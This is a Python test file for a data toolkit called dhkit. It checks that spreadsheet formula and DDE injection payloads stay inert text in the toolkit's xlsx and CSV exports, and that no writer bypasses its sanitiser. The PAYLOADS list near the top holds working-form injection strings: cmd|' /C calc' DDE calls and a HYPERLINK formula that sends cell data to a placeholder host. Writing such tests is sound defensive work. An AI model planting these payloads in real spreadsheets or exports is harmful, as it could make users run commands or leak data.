"""Formula / DDE injection: a payload in any text cell stays inert text in every xlsx and
CSV dhkit writes (xlsx: a string cell, never a formula; CSV: the OWASP ``'`` prefix)."""

import csv
import dataclasses
import re
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from dhkit.safetext import FORMULA_START, csv_cell, csv_frame, is_formula_like

PAYLOADS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"clic\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "=DDE(\"cmd\";\"/C calc\";\"A0\")"]
SRC = Path(__file__).parents[2] / "src" / "dhkit"


def formula_cells(path: Path) -> list[str]:
    """Every <f> (formula) element in every sheet of an xlsx."""
    with zipfile.ZipFile(path) as z:
        return [m for n in z.namelist() if n.startswith("xl/worksheets/")
                for m in re.findall(r"<f[ >].*?</f>", z.read(n).decode("utf-8"))]


def strings_of(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist()
                       if n.endswith(".xml") and ("sharedStrings" in n or "worksheets" in n))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_recognised_and_prefixed_in_csv(payload):
    assert is_formula_like(payload)
    assert csv_cell(payload) == "'" + payload.replace("\r", "\n")


def test_numbers_and_plain_text_are_left_alone_in_csv():
    assert [csv_cell(v) for v in ["-0.25", "+57", "1e-3", "Bogotá", "", 5]] == \
        ["-0.25", "+57", "1e-3", "Bogotá", "", 5]


def test_csv_frame_neutralises_text_columns_and_headers_not_numbers():
    out = csv_frame(pd.DataFrame({"=h": PAYLOADS, "x": range(len(PAYLOADS))}))
    assert list(out.columns) == ["'=h", "x"]
    assert all(v.startswith("'") for v in out["'=h"]) and out["x"].tolist() == list(range(7))


def test_quote_bank_xlsx_holds_payloads_as_text(tmp_path):
    from dhkit.qualitative.model import Quote
    from dhkit.qualitative.quotes import export_quotes

    fields = [f.name for f in dataclasses.fields(Quote)]
    base = dict(quote_id="q1", code_id="c", code_name="=c", text="", attribution="(YP)",
                group="YP", language="es")
    quotes = [Quote(**{k: v for k, v in {**base, "quote_id": f"q{i}", "text": p}.items()
                       if k in fields},
                    **{k: None for k in fields if k not in base})
              for i, p in enumerate(PAYLOADS)]
    out = export_quotes(quotes, tmp_path / "quotes.xlsx")
    assert formula_cells(out) == []
    assert "HYPERLINK" in strings_of(out)


def test_legal_workbooks_hold_payloads_as_text(tmp_path):
    from dhkit.legal.render import Workbook

    wb = Workbook(tmp_path / "gap.xlsx")
    wb.sheet("gaps", ["=item", "note", "share"], [[p, p, 0.5] for p in PAYLOADS],
             pct_cols=(2,))
    out = wb.close()
    assert formula_cells(out) == []
    assert "cmd|" in strings_of(out)


def test_assessment_round_trip_workbook_holds_payloads_as_text(tmp_path):
    from dhkit.legal.assessment import colombia_assessment_path, load_assessment
    from dhkit.legal.xlsxio import export_assessment_xlsx

    a = load_assessment(colombia_assessment_path())
    answers = tuple(dataclasses.replace(x, note=PAYLOADS[i % len(PAYLOADS)])
                    for i, x in enumerate(a.answers))
    a = dataclasses.replace(a, answers=answers, analyst="=cmd|' /C calc'!A0",
                            sources={**a.sources, "=src": "@SUM(1)"})
    out = export_assessment_xlsx(a, tmp_path / "assessment.xlsx")
    assert formula_cells(out) == []


def test_weighting_diagnostics_sheet_holds_payloads_as_text(tmp_path):
    from dhkit.weighting.diagnostics import write_diagnostics_excel

    out = write_diagnostics_excel({"=caption": pd.DataFrame({"level": PAYLOADS})},
                                  tmp_path / "w.xlsx")
    assert formula_cells(out) == []


def test_problem_report_csv_is_prefixed(tmp_path):
    from dhkit.validation import ValidationReport

    rep = ValidationReport()
    for p in PAYLOADS:
        rep.add("IMP-004", "bad value", file="x.csv", row=2, field="q", value=p)
    rows = list(csv.DictReader(rep.write_csv(tmp_path / "p.csv").open(encoding="utf-8")))
    assert all(r["value"].startswith("'") for r in rows)


def test_consultation_quarantine_csv_is_prefixed(tmp_path):
    from dhkit.legal.consultation import COLUMNS, _quarantine

    src = tmp_path / "comments.csv"
    src.write_text("x", encoding="utf-8")
    bad = [(i + 2, {c: p for c in COLUMNS}, ["LEG-050 bad"]) for i, p in enumerate(PAYLOADS)]
    out = _quarantine(SimpleNamespace(legal_dir=tmp_path), src, bad)
    cells = [c for row in csv.reader(out.open(encoding="utf-8", newline="")) for c in row]
    assert not any(c.startswith(FORMULA_START) for c in cells)


def test_quarantine_export_csv_is_prefixed(tmp_path, monkeypatch):
    import json

    from dhkit.ingest.quarantine import export_quarantine
    from dhkit.workspace.store import Store

    monkeypatch.setenv("DHKIT_KEY", "k" * 20)
    path = tmp_path / "s.duckdb"
    with Store.open(path, "k" * 20) as s:
        s.con.execute('CREATE TABLE quarantine (id BIGINT, "table" VARCHAR, raw VARCHAR, '
                      "released BOOLEAN)")
        for i, p in enumerate(PAYLOADS):
            s.con.execute("INSERT INTO quarantine VALUES (?, 'main', ?, FALSE)",
                          [i, json.dumps({"q1": p, "=h": "ok"})])
    study = SimpleNamespace(open_store=lambda: Store.open(path, "k" * 20))
    export_quarantine(study, tmp_path / "q.csv")
    cells = [c for row in csv.reader((tmp_path / "q.csv").open(encoding="utf-8", newline=""), delimiter=";")
             for c in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    assert "'" + PAYLOADS[0] in cells


def test_no_writer_bypasses_safetext():
    """Every xlsxwriter workbook comes from safetext.workbook (or its options) and every CSV
    writer in the code goes through csv_frame / csv_row / csv_cell."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "safetext.py" or "forms" in path.parts:
            continue
        lines = path.read_text(encoding="utf-8").splitlines() + [""]
        for n, line in enumerate(lines[:-1], 1):
            code = line.split("#")[0]
            if "xlsxwriter.Workbook(" in code or ('engine="xlsxwriter"' in code
                                                  and "WORKBOOK_OPTIONS" not in code + lines[n]):
                offenders.append(f"{path.name}:{n}")
            if ".to_csv(" in code and "csv_frame(" not in code and ">>>" not in code \
                    and "margins" not in code and "sha256(" not in code:
                offenders.append(f"{path.name}:{n}")
            if "w.writerow(" in code and not re.search(r"csv_(row|cell)\(|writerow\(\[\"|header", code):
                offenders.append(f"{path.name}:{n}")
    assert offenders == []
